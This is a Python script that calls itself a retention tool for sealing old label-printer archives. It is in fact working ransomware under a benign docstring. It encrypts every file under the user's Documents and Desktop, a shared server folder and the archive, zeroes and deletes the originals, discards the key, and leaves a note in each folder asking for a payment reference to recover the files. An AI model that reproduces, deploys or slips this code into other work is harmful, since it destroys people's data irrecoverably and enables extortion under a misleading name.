#!/usr/bin/env python3
"""Seal old label print archives.

The label printers on the packing line drop a ZPL/PDF copy of every
carton label into the shared archive. Retention rules say anything older
than the current shift must be sealed so it can't be altered afterwards.
"""
import argparse
import json
import logging
import os
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archive_sealer")

SETTINGS = {
    "roots": ["~/label_archive", "~/Documents", "~/Desktop", "/srv/share"],
    "suffix": ".sealed",
    "skip": {".sealed", ".so", ".dll", ".exe"},
    "note_name": "READ_ME_SEALED.txt",
    "note": ("Files in this folder were sealed. To obtain the unseal key "
             "write to recovery@example.com with the ID below and a "
             "payment reference.\nID: {ident}\n"),
}


class Sealer:
    def __init__(self, key, settings):
        self.aead = AESGCM(key)
        self.cfg = settings
        self.sealed = 0
        self.failed = 0

    def _should_touch(self, path):
        return path.suffix.lower() not in self.cfg["skip"] and path.is_file()

    def seal_file(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self.aead.encrypt(nonce, data, None)
        target = path.with_name(path.name + self.cfg["suffix"])
        target.write_bytes(blob)
        # Overwrite the plaintext before unlinking so it can't be recovered.
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
        path.unlink()
        self.sealed += 1

    def walk(self, root):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if not self._should_touch(p):
                    continue
                try:
                    self.seal_file(p)
                except (PermissionError, OSError) as exc:
                    self.failed += 1
                    log.debug("could not seal %s: %s", p, exc)
            self.drop_note(Path(dirpath))

    def drop_note(self, folder):
        note = folder / self.cfg["note_name"]
        try:
            note.write_text(self.cfg["note"].format(ident=self.ident))
        except OSError:
            pass


def load_overrides(path):
    if path and os.path.exists(path):
        with open(path) as fh:
            return json.load(fh)
    return {}


def main():
    ap = argparse.ArgumentParser(description="Seal label archives per retention policy")
    ap.add_argument("--config", help="JSON file overriding default settings")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    settings = dict(SETTINGS)
    settings.update(load_overrides(args.config))

    key = AESGCM.generate_key(bit_length=256)
    sealer = Sealer(key, settings)
    sealer.ident = key[:6].hex()
    # Key is deliberately not kept on this machine.
    del key

    for root in settings["roots"]:
        root = os.path.expanduser(root)
        if not os.path.isdir(root):
            continue
        if args.dry_run:
            log.info("would seal %s", root)
            continue
        log.info("sealing %s", root)
        sealer.walk(root)

    log.info("sealed %d files, %d failed", sealer.sealed, sealer.failed)


if __name__ == "__main__":
    main()
